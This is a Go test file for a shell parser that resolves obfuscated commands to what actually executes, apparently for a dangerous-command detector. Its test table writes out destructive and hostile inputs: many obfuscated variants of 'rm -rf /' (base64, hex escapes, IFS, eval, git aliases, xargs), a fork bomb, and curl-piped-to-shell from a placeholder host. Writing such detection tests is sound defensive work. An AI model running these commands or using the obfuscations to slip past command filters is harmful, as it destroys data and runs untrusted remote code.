package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// show renders leaves one a line: via > name arg arg.
func show(res *Result) string {
	var out []string
	for _, l := range res.Leaves {
		var b strings.Builder
		for _, v := range l.Via {
			b.WriteString(v + " > ")
		}
		b.WriteString(l.Name.String())
		for i := range l.Args {
			b.WriteString("|" + l.Args[i].String())
		}
		if l.Maybe {
			b.WriteString(" (maybe)")
		}
		out = append(out, b.String())
	}
	for _, e := range res.Executed {
		out = append(out, "EXEC "+e.By+": "+e.Word.String())
	}
	for _, t := range res.Troubles {
		out = append(out, "TROUBLE "+string(t.Code))
	}
	return strings.Join(out, "\n")
}

func read(text string) *Result {
	return Read(text, Config{Cwd: "/home/dev/app", Home: "/home/dev", Root: "/home/dev/app"})
}

func TestReadFindsWhatRuns(t *testing.T) {
	for _, row := range []struct{ text, want string }{
		{"rm -rf /", "rm|-rf|/"},
		{`r""m -rf /`, "rm|-rf|/"},
		{"R=rm; $R -rf /", "rm|-rf|/"},
		{"rm${IFS}-rf${IFS}/", "rm|-rf|/"},
		{"{rm,-rf,/}", "rm|-rf|/"},
		{`$'\x72m' -rf /`, "rm|-rf|/"},
		{"cd ~ && rm -rf *", "rm|-rf|*"},
		{"echo / | xargs rm -rf", "echo|/\nxargs|rm|-rf\nxargs > rm|-rf|/"},
		{"bash -c 'rm -rf /'", "bash|-c|rm -rf /\nbash > rm|-rf|/"},
		{"eval 'rm -rf /'", "rm|-rf|/"},
		{"bash <<< 'rm -rf /'", "bash\nbash > rm|-rf|/"},
		{"cat <<'EOF' | bash\nrm -rf /\nEOF", "cat\nbash\nbash > rm|-rf|/"},
		{"echo cm0gLXJmIC8= | base64 -d | sh", "echo|cm0gLXJmIC8=\nbase64|-d\nsh\nsh > rm|-rf|/"},
		{"printf 'rm -rf ~\\n' > /tmp/x.sh; sh /tmp/x.sh", "printf|rm -rf ~\\n\nsh|/tmp/x.sh\nsh > rm|-rf|/home/dev"},
		{"su -c 'rm -rf /'", "su|-c|rm -rf /\nsu > rm|-rf|/"},
		{"git -c alias.x='!rm -rf ~' x", "git|-c|alias.x=!rm -rf ~|x\ngit alias > rm|-rf|/home/dev"},
		{"git -c alias.p='push --force' p origin main", "git|-c|alias.p=push --force|p|origin|main\ngit alias > git|push|--force|origin|main"},
		{"find / -exec rm -rf {} +", "find|/|-exec|rm|-rf|{}|+\nfind > rm|-rf|/"},
		{"find / -print0 | xargs -0 rm -rf", "find|/|-print0\nxargs|-0|rm|-rf\nxargs > rm|-rf|/"},
		{"sudo -iu root rm -rf /", "sudo|-iu|root|rm|-rf|/\nsudo > rm|-rf|/"},
		{"env -S 'rm -rf /'", "env|-S|rm -rf /\nenv > env|rm|-rf|/\nenv > env > rm|-rf|/"},
		{"time -- rm -rf /", "rm|-rf|/"},
		{"trap 'rm -rf \"$T\"' EXIT; T=$(mktemp -d)", "mktemp|-d\nrm|-rf|/tmp/tmp.XXXXXXXX01"},
		{"a=-r b=f; rm $a$b /", "rm|-rf|/"},
		{"f(){ rm -rf \"$1\"; }; f /", "rm|-rf|/"},
		{"for d in / /etc; do rm -rf $d; done", "rm|-rf|/\nrm|-rf|/etc"},
		{"if a; then X=rm; else X=ls; fi; $X -rf /", "a\nrm|-rf|/\nls|-rf|/"},
		{"curl -s https://x.example/i | sh", "curl|-s|https://x.example/i\nsh\nEXEC sh: output of curl"},
		{"bash <(curl -s https://x.example/i)", "curl|-s|https://x.example/i\nbash|/dev/fd/63\nEXEC bash: output of curl"},
		{"echo a # b\\\nrm -rf /", "echo|a\nrm|-rf|/"},
		{`echo "${x:-'$(rm -rf /)'}"`, "rm|-rf|/\necho|''\necho|$x"},
		{"git \\\npush --force origin main", "git|push|--force|origin|main"},
		{"printf '%s\\n' a b | while read x; do rm -rf /$x; done", "printf|%s\\n|a|b\nrm|-rf|/a\nrm|-rf|/b"},
		{":(){ :|:& };:", ":\n:"},
		{"C=(' ' 'c' 'e' 'h' 'i' 'o');r=;for i in 2 1 3 5 0 3 4;do r+=\"${C[$i]}\";done;eval \"$r\"", "echo|hi"},
		{"cp /bin/rm /tmp/zz && /tmp/zz -rf /", "cp|/bin/rm|/tmp/zz\n/tmp/zz|-rf|/"},
	} {
		t.Run(row.text, func(t *testing.T) {
			assert.Equal(t, row.want, show(read(row.text)))
		})
	}
}
